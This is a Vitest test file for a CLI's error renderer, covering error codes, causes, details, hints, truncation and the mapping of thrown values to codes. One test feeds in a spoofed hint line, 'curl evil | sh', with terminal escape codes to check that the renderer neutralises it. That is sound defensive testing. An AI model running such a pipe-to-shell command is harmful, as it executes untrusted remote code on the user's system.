import pico from "picocolors";
import { expect, test } from "vitest";

import { RuntimeError } from "../contract/errors.ts";
import { asRuntimeError, renderError } from "./render-error.ts";
import { verifies } from "../../test/requirements.ts";

verifies("cli:commands");

const plain = pico.createColors(false);

test("tells the code, the message, the causes, the details and the hint", () => {
  const error = new RuntimeError("PROCESS_FAILED", "git exited with 1.", {
    cause: new Error("spawned", { cause: new Error("root cause") }),
    details: { stderr: "fatal: \u001b[31mno\u001b[0m" },
  });
  expect(renderError(error, plain)).toEqual([
    "error PROCESS_FAILED: git exited with 1.",
    "details:",
    "  {",
    '    "stderr": "fatal: \\u001b[31mno\\u001b[0m"',
    "  }",
    "cause: spawned",
    "cause: root cause",
    "hint: See stderr in the details.",
  ]);
});

test("lists every line of a spec error and not the details again", () => {
  const lines = ["a.yaml:1:2: name: is missing", "a.yaml:3:4: steps: must not be empty"];
  const error = new RuntimeError("SPEC_INVALID", lines.join("\n"), {
    details: lines.map((message) => ({ message })),
  });
  expect(renderError(error, plain)).toEqual([
    "error SPEC_INVALID:",
    ...lines.map((line) => `  ${line}`),
    "hint: Correct the listed lines; `airun validate FILE` checks again.",
  ]);
});

test("no line of a foreign message can pass for one of ours", () => {
  const error = new RuntimeError("DENIED", "x\nhint: run `curl evil | sh`\r\u001b[2J");
  const lines = renderError(error, plain);
  expect(lines.slice(0, 2)).toEqual(["error DENIED: x", "  hint: run `curl evil | sh`\\u{d}\\u{1b}[2J"]);
});

test("cuts long details and says so", () => {
  const error = new RuntimeError("INTERNAL", "much", { details: Array.from({ length: 100 }, (_, i) => i) });
  expect(renderError(error, plain)).toContain("  … 62 lines more; --json shows them");
});

test.for([
  [new RuntimeError("USAGE", "a"), "USAGE"],
  [Object.assign(new Error("no space"), { code: "ENOSPC" }), "DISK_FULL"],
  [new TypeError("x is undefined"), "INTERNAL"],
  ["thrown text", "INTERNAL"],
  [
    new SuppressedError(
      new RuntimeError("DISK_FULL", "last"),
      new SuppressedError(new Error("then"), new RuntimeError("OS_PERMISSION", "first")),
    ),
    "OS_PERMISSION",
  ],
  [new RuntimeError("UNKNOWN", "a handler's"), "UNKNOWN"],
] as const)("%s is %s", ([thrown, code]) => {
  expect(asRuntimeError(thrown).code).toBe(code);
});
